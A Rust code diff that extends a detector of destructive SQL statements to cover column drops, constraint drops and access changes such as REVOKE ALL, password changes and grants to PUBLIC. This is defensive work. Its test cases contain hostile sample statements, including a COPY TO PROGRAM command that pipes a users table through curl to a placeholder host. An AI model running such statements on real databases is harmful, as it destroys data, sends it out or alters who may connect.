@@ -4,7 +4,9 @@
 //! `SELECT 'drop table x'` is data; `DROP TABLE x`, `TRUNCATE x`, and `DELETE FROM x` or
 //! `UPDATE x SET ...` without a `WHERE` (or with one that is always true: `WHERE 1=1`, `WHERE
 //! true`, `… OR 1=1`) destroy data, as does ClickHouse's `ALTER TABLE x DELETE WHERE 1`.
-//! `COPY … TO PROGRAM 'cmd'` runs a command on the server. Every statement of the text is read.
+//! `COPY … TO PROGRAM 'cmd'` runs a command on the server; `ALTER TABLE x DROP COLUMN c` drops a
+//! column's data. `REVOKE ALL`, `ALTER USER … PASSWORD` and grants to `PUBLIC` change who may
+//! connect or what they may do. Every statement of the text is read.
 
 /// What a destructive statement does, most destructive first.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -19,6 +21,9 @@ pub(super) enum Destruction {
     UpdateAll,
     /// `COPY … TO|FROM PROGRAM 'cmd'`: PostgreSQL runs the command on the server.
     Program,
+    /// `REVOKE ALL …`, `ALTER USER|ROLE … PASSWORD|SUPERUSER`, `GRANT … TO PUBLIC`: the apps
+    /// connecting as a role lose their access, or everyone gains it.
+    Access,
 }
 
 /// The first destructive statement in `sql`, if any.
@@ -37,7 +42,7 @@ pub(super) fn drops_only(sql: &str, spared: fn(&str) -> bool) -> bool {
         let word = |i: usize| words.get(i).map(String::as_str);
         let at = if word(2) == Some("IF") && word(3) == Some("EXISTS") { 4 } else { 2 };
         if word(0) != Some("DROP")
-            || !matches!(word(1), Some("DATABASE" | "SCHEMA"))
+            || !matches!(word(1), Some("DATABASE" | "SCHEMA" | "KEYSPACE"))
             || !word(at).is_some_and(spared)
         {
             return false;
@@ -55,6 +60,19 @@ fn judge(words: &[String]) -> Option<Destruction> {
     let verb_at = if word(0) == Some("WITH") {
         words.iter().position(|w| matches!(w.as_str(), "DELETE" | "UPDATE" | "TRUNCATE" | "DROP"))?
     } else if word(0) == Some("ALTER") && word(1) == Some("TABLE") {
+        // `ALTER TABLE t DROP [COLUMN] c` (MySQL's needs no `COLUMN`), `DROP CONSTRAINT`,
+        // `DROP PARTITION`: the data or the integrity they held. `ALTER COLUMN c DROP DEFAULT`
+        // and `DROP NOT NULL` change a rule only.
+        let drops = words.windows(2).any(|pair| {
+            pair[0] == "DROP"
+                && !matches!(
+                    pair[1].as_str(),
+                    "DEFAULT" | "NOT" | "IDENTITY" | "EXPRESSION" | "INDEX" | "KEY" | "TRIGGER" | "ROW"
+                )
+        });
+        if drops {
+            return Some(Destruction::Drop);
+        }
         words.iter().position(|w| matches!(w.as_str(), "DELETE" | "UPDATE"))?
     } else {
         0
@@ -89,6 +107,14 @@ fn judge(words: &[String]) -> Option<Destruction> {
             .then_some(Destruction::Drop)
         }
         "COPY" if words.iter().any(|w| w == "PROGRAM") => Some(Destruction::Program),
+        "REVOKE" if word(verb_at + 1) == Some("ALL") => Some(Destruction::Access),
+        "ALTER"
+            if matches!(word(verb_at + 1), Some("USER" | "ROLE"))
+                && words.iter().any(|w| matches!(w.as_str(), "PASSWORD" | "SUPERUSER" | "IDENTIFIED")) =>
+        {
+            Some(Destruction::Access)
+        }
+        "GRANT" if words.iter().any(|w| w == "PUBLIC") => Some(Destruction::Access),
         "TRUNCATE" => Some(Destruction::Truncate),
         "DELETE" if !has_where() => Some(Destruction::DeleteAll),
         "UPDATE" if word(verb_at + 1).is_some() && words.iter().any(|w| w == "SET") && !has_where() => {
@@ -240,6 +266,13 @@ mod tests {
             ("DROP USER app@'%'", Destruction::Drop),
             ("DROP WAREHOUSE COMPUTE_WH", Destruction::Drop),
             ("COPY users TO PROGRAM 'curl -d @- https://x.example'", Destruction::Program),
+            ("ALTER TABLE users DROP COLUMN email", Destruction::Drop),
+            ("alter table orders drop constraint orders_user_fk", Destruction::Drop),
+            ("ALTER TABLE users DROP email", Destruction::Drop),
+            ("REVOKE ALL ON DATABASE app FROM app_rw", Destruction::Access),
+            ("ALTER USER app WITH PASSWORD 'x'", Destruction::Access),
+            ("ALTER ROLE intern SUPERUSER", Destruction::Access),
+            ("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", Destruction::Access),
         ] {
             assert_eq!(destruction(sql), Some(expected), "{sql}");
         }
